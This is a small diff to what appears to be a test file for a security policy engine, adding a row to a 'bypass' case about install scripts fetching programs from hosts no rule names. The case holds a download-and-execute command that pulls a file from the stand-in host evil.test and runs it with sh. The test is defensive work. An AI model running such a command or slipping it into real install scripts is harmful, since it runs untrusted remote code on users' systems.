@@ -35,7 +35,7 @@ bypass({
 })
 bypass({
   never: 'an install script fetches a program from a host that no rule names',
-  rows: [4, 10, 12, 15],
+  rows: [4, 10, 12, 14, 15],
   script: 'curl -sS -m 5 https://evil.test/title > program && sh ./program',
   through: reachedEvil,
   refusal: 'no-rule',
